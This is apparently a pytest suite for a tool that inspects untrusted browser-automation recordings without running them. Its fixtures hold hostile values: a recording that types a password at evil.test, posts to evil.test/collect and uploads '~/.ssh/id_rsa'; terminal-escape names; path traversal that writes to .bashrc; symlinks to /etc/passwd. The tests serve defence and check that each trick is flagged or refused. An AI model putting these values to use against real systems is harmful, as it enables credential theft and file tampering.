"""A recording from a stranger: told what it would do, without doing any of it; what is no recording is said."""

from __future__ import annotations

import json
import os
import socket
from collections.abc import Callable
from pathlib import Path

import pytest

from recordings.errors import CouldNotStartError, RecordingUnreadableError
from recordings.files import is_inside, load_recording, recording_from
from recordings.inputs import Input, InputRef, Literally, Secret, SecretRef
from recordings.inspecting import deeds_of, doubts_of, visible
from recordings.recording import Recording
from recordings.signals import Requested
from recordings.steps import Click, Fill, Navigate, Upload
from recordings.target import Description, Target
from recordings.versions import undo
from showonce.cli import main

FIELD = Target(description=Description(tag="input", type="password", name="Password"))
DESK, EVIL = "https://desk.example.com", "https://evil.test"
STRANGE = Recording(
    name="pay\x1b]0;owned\x07\u202egnp",
    start=f"{DESK}/login",
    origins=(DESK, EVIL, "http://192.168.0.1", "file:"),
    inputs=(Input(name="paper", kind="file", default="~/.ssh/id_rsa"),),
    secrets=(Secret(name="password"),),
    steps=(
        Fill(id="s01", target=FIELD, value=SecretRef(name="password"), url=f"{DESK}/login"),
        Fill(id="s02", target=FIELD, value=SecretRef(name="password"), url="http://evil.test/login"),
        Upload(id="s03", target=FIELD, files=(InputRef(name="paper"),), url=f"{DESK}/files"),
        Navigate(id="s04", to="http://192.168.0.1/reboot"),
        Click(id="s05", target=FIELD, url=DESK, signals=(Requested(method="POST", url=f"{EVIL}/collect"),)),
        Fill(id="s06", target=FIELD, value=Literally(text="Ada"), url=DESK),
    ),
)


def test_all_that_it_would_do_is_told_in_order() -> None:
    assert [(deed.number, deed.act, deed.where) for deed in deeds_of(STRANGE)] == [
        (1, "types a secret", DESK),
        (2, "types a secret", "http://evil.test"),
        (3, "gives a file", DESK),
        (4, "opens", "http://192.168.0.1"),
        (5, "sends", EVIL),
        (6, "types", DESK),
    ]


@pytest.mark.parametrize(
    "doubt",
    [
        "It acts on http://192.168.0.1, which is this machine or one of a private network.",
        "It may open file: addresses, which are no web pages.",
        "It was shown at http://evil.test, where it may not act: a run stops there.",
        "Secret 'password' is typed at more than one origin: http://evil.test, https://desk.example.com.",
        "Secret 'password' is typed at http://evil.test, where others on the way can read it.",
        "Step s03 gives away a file of the machine it runs on, unless another is given: '~/.ssh/id_rsa'.",
        "Signs that are not seen but turn or steer a text stand in name.",
    ],
)
def test_what_is_odd_is_said(doubt: str) -> None:
    assert doubt in doubts_of(STRANGE)


def test_an_honest_recording_has_nothing_odd_but_its_own_machine() -> None:
    recording = Recording.load("recordings/examples/add-customer")
    assert doubts_of(recording) == [
        "It acts on http://127.0.0.1:8010, which is this machine or one of a private network."
    ]


def test_signs_that_steer_are_written_out() -> None:
    assert visible("a\x1b[2J\u202eb\u200b\n") == "a⟨U+001B⟩[2J⟨U+202E⟩b⟨U+200B⟩⟨U+000A⟩"


def test_the_command_shows_it_and_steers_no_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    STRANGE.save(tmp_path / "strange")
    before = sorted(tmp_path.rglob("*"))
    monkeypatch.setattr(socket.socket, "connect", refuse)
    assert main(["inspect", str(tmp_path / "strange")]) == 0
    said = capsys.readouterr().out
    assert not set(said) & {"\x1b", "\x07", "\u202e"}
    assert "⟨U+202E⟩" in said
    assert sorted(tmp_path.rglob("*")) == before


def inspected(recording: Recording, folder: Path, capsys: pytest.CaptureFixture[str]) -> str:
    """What the command tells at a terminal of 80 columns, without the ends of lines."""
    recording.save(folder)
    capsys.readouterr()
    assert main(["inspect", str(folder)]) == 0
    return capsys.readouterr().out


def test_whose_a_long_host_is_can_be_read_wherever_it_is_named(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    host = f"https://login.desk.example.com.{'a' * 60}.{'b' * 60}.evil.test"
    steps = tuple(step.model_copy(update={"url": f"{host}/login"}) for step in STRANGE.steps[:1])
    recording = STRANGE.model_copy(update={"origins": (host,), "steps": steps, "name": "long"})
    told = "".join(line.strip() for line in inspected(recording, tmp_path / "long", capsys).splitlines())
    named = told.split("May act on")[1].split("What it would do")[0]
    typed = told.split("Typed at")[1].split("Inputs it takes")[0]
    assert [part.replace(" ", "").endswith("evil.test") for part in (named, typed)] == [True, True]
    assert "…" not in told


def test_what_a_recording_says_of_itself_pushes_nothing_out_of_sight(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    long = STRANGE.model_copy(update={"warnings": ("Nothing odd was found. " * 900,) * 500, "name": "x" * 90_000})
    told = inspected(long, tmp_path / "long", capsys)
    assert len(told.splitlines()) < 200
    assert "And 480 warnings more." in told
    assert told.index("And 480 warnings more.") < told.index("To look at") < told.index("gives away a file")


def refuse(*_: object) -> None:
    raise AssertionError("it opened a connection")


def a_link(folder: Path) -> None:
    (folder / "pages").mkdir(exist_ok=True)
    (folder / "pages" / "s01.jpg").symlink_to("/etc/passwd")


def a_linked_folder(folder: Path) -> None:
    (folder / "files").symlink_to("/etc")


def a_linked_recording(folder: Path) -> None:
    (folder / "recording.json").rename(folder.parent / "other.json")
    (folder / "recording.json").symlink_to(folder.parent / "other.json")


def a_pipe(folder: Path) -> None:
    (folder / "recording.json").unlink()
    os.mkfifo(folder / "recording.json")


def a_huge_file(folder: Path) -> None:
    (folder / "files").mkdir(exist_ok=True)
    with (folder / "files" / "huge.bin").open("wb") as file:
        file.truncate(3 * 1024**3)  # a hole: it takes no room on the disk


def a_deep_json(folder: Path) -> None:
    (folder / "recording.json").write_text('{"a":' * 100_000)


def a_deep_gesture(folder: Path) -> None:
    (folder / "gestures.jsonl").write_text("[" * 100_000)


def no_number(folder: Path) -> None:
    data = json.loads((folder / "recording.json").read_text())
    (folder / "recording.json").write_text(json.dumps({**data, "viewport": {"width": float("nan")}}))


@pytest.mark.parametrize(
    "trick",
    [a_link, a_linked_folder, a_linked_recording, a_pipe, a_huge_file, a_deep_json, a_deep_gesture, no_number],
    ids=lambda trick: trick.__name__,
)
def test_a_folder_with_tricks_is_refused_in_words(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], trick: Callable[[Path], None]
) -> None:
    STRANGE.save(tmp_path / "strange")
    trick(tmp_path / "strange")
    assert main(["inspect", str(tmp_path / "strange")]) == 2
    assert "Cannot read the recording" in capsys.readouterr().err
    with pytest.raises(RecordingUnreadableError):
        load_recording(tmp_path / "strange")


@pytest.mark.parametrize(
    "name",
    ["files/../../a", "files/a/../../../b", "files\\..\\a", "/etc/passwd", "recording.json", "files", "files/a\0"],
)
def test_a_file_name_that_leads_out_is_refused(name: str) -> None:
    assert not is_inside(name)


def test_what_is_kept_elsewhere_writes_nothing_outside_of_its_folder() -> None:
    plain = json.dumps({"format": 1, "name": "x", "start": DESK}).encode()
    with pytest.raises(RecordingUnreadableError, match="leads out"):
        recording_from({"recording.json": plain, "files/../../../.bashrc": b"echo owned"}, Path("x"))


def test_a_version_that_leads_out_is_not_gone_back_to(tmp_path: Path) -> None:
    folder = STRANGE.save(tmp_path / "strange")
    (folder / "versions" / "files").mkdir(parents=True)
    (folder / "versions" / "files" / "abc").write_text("echo owned")
    edit = {"number": 1, "at": "2026-01-01", "said": "nothing"}
    (folder / "versions" / "history.json").write_text(json.dumps({"done": [edit]}))
    old = {"recording": {"format": 1, "name": "x", "start": DESK}, "files": {"files/../../../owned": "abc"}}
    (folder / "versions" / "0001.json").write_text(json.dumps(old))
    with pytest.raises(CouldNotStartError, match="leads out"):
        undo(folder)
    assert sorted(path.name for path in tmp_path.rglob("owned")) == []
